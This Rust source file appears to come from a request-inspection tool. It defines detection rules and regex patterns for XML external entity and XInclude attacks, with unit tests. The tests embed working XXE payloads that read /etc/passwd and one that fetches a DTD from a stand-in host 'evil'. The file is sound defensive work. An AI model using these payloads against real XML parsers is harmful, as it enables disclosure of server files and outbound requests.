//! XML external entities and friends (rules 1600–1699).
//!
//! A DOCTYPE in an XML body (the extractor emits it as a target named `!DOCTYPE`) is critical on
//! its own: no API needs one. In any other value: entity and parameter-entity declarations,
//! external identifiers with a URI, a DOCTYPE with an internal subset or a SYSTEM identifier, and
//! XInclude.

use std::sync::LazyLock;

use super::shared::{Bank, push_once};
use crate::model::{Class, Finding, Location, Rule, Severity, Target};
use crate::transform::{View, Views};

const fn rule(id: u32, severity: Severity, paranoia: u8, description: &'static str) -> Rule {
    Rule {
        id,
        class: Class::Xxe,
        severity,
        paranoia,
        description,
    }
}

pub static RULES: &[Rule] = &[
    rule(
        1600,
        Severity::Critical,
        1,
        "DOCTYPE declaration in an XML body",
    ),
    rule(1601, Severity::Critical, 1, "XML entity declaration"),
    rule(
        1602,
        Severity::Critical,
        1,
        "XML parameter entity (declaration or reference in a DTD)",
    ),
    rule(
        1603,
        Severity::Critical,
        1,
        "external identifier with a URI (SYSTEM/PUBLIC)",
    ),
    rule(
        1604,
        Severity::Critical,
        1,
        "DOCTYPE with an internal subset or a SYSTEM identifier",
    ),
    rule(1605, Severity::Critical, 1, "XInclude"),
    rule(
        1606,
        Severity::Error,
        1,
        "DTD markup declaration (ELEMENT, ATTLIST, NOTATION)",
    ),
    rule(
        1607,
        Severity::Warning,
        2,
        "DOCTYPE with a PUBLIC identifier in a value",
    ),
    rule(
        1608,
        Severity::Error,
        2,
        "XSLT element reading documents or system properties",
    ),
];

static DECODED: LazyLock<Bank> = LazyLock::new(|| {
    Bank::new(
        "xxe",
        &[
            (1, r"(?i)<!\s*entity\b"),
            (2, r"(?i)<!\s*entity\s+%\s*[\w.:-]+"),
            (
                2,
                r"(?i)(?:<!\s*(?:doctype|entity|element|attlist)\b[^>]*|\[)\s*%[a-z_][\w.:-]*;",
            ),
            (
                3,
                r#"(?i)<!\s*(?:doctype|entity)[^>]*?\b(?:system|public(?:\s+["'][^"']*["'])?)\s+["']\s*(?:file|https?|ftp|php|expect|jar|netdoc|gopher|data|dict|ldap|zip|phar|glob|compress\.zlib|\\\\|/)[^"']*["']"#,
            ),
            (4, r"(?i)<!\s*doctype\s+[\w.:-]+\s*(?:\[|system\b)"),
            (
                5,
                r#"(?i)<\s*[\w-]+:include\b[^>]*\bhref\s*=|xmlns(?::[\w-]+)?\s*=\s*["']https?://www\.w3\.org/200[13]/xinclude"#,
            ),
            (6, r"(?i)<!\s*(?:element|attlist|notation)\s+[\w.:-]+"),
            (7, r"(?i)<!\s*doctype\s+[\w.:-]+\s+public\b"),
            (
                8,
                r#"(?i)<\s*xsl:[\w-]+[^>]*(?:document\s*\(|system-property\s*\(|unparsed-text\s*\()|\bxmlns:[\w-]+\s*=\s*["']http://xml\.apache\.org/xalan/java"#,
            ),
        ],
    )
});

pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Finding>) {
    let mut seen = 0u64;
    if t.location == Location::Body && t.name.eq_ignore_ascii_case("!DOCTYPE") {
        let raw = views.get(View::Raw);
        push_once(RULES, 0, &mut seen, paranoia, t, View::Raw, raw, out);
    }
    let raw = views.get(View::Raw);
    if !raw.contains(['<', '%', '&', '[']) {
        return;
    }
    let decoded = views.get(View::Decoded);
    if !(decoded.contains('<') || decoded.contains('%') && decoded.contains(';')) {
        return;
    }
    DECODED.scan(decoded, |r, m| {
        // The W3C's own (X)HTML DTDs are what legacy HTML documents name, not an attack.
        if r == 3 && contains_ignore_case(m, "www.w3.org/tr/") {
            return;
        }
        push_once(RULES, r, &mut seen, paranoia, t, View::Decoded, m, out)
    });
}

fn contains_ignore_case(hay: &str, needle: &str) -> bool {
    hay.as_bytes()
        .windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Part;

    fn ids_at(loc: Location, name: &str, v: &str, pl: u8) -> Vec<u32> {
        let t = Target::new(loc, name, Part::Value, v);
        let mut views = Views::new();
        views.load(v);
        let mut out = Vec::new();
        inspect(&t, &mut views, pl, &mut out);
        out.iter().map(|f| f.rule).collect()
    }

    fn ids(v: &str) -> Vec<u32> {
        ids_at(Location::Query, "q", v, 1)
    }

    #[test]
    fn patterns_compile() {
        assert_eq!(DECODED.failed, 0);
    }

    #[test]
    fn rule_ids_are_in_block_and_unique() {
        let mut seen = std::collections::HashSet::new();
        for r in RULES {
            assert!((1600..1700).contains(&r.id));
            assert!(seen.insert(r.id));
        }
    }

    #[test]
    fn attacks() {
        let xxe = r#"<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
        let got = ids(xxe);
        for id in [1601, 1603, 1604, 1606] {
            assert!(got.contains(&id), "{id} missing: {got:?}");
        }
        assert!(
            ids(r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>"#).contains(&1602)
        );
        assert!(ids(r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#).contains(&1605));
        // In the default namespace, as the XML extractor's start-tag target shows it.
        assert!(
            ids(r#"<include xmlns="http://www.w3.org/2001/XInclude" href="file:///etc/passwd">"#)
                .contains(&1605)
        );
        assert!(
            ids(r#"<include href="file:///etc/passwd" xmlns="http://www.w3.org/2003/XInclude">"#)
                .contains(&1605)
        );
        assert_eq!(
            ids_at(Location::Body, "!DOCTYPE", "<!DOCTYPE note>", 1),
            vec![1600]
        );
    }

    #[test]
    fn benign() {
        assert!(ids("<b>bold</b> & <i>it</i>").is_empty());
        assert!(ids("<!DOCTYPE html><html><body>hi</body></html>").is_empty());
        assert!(ids("50% off [today]").is_empty());
        assert!(ids(r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#).is_empty());
    }
}
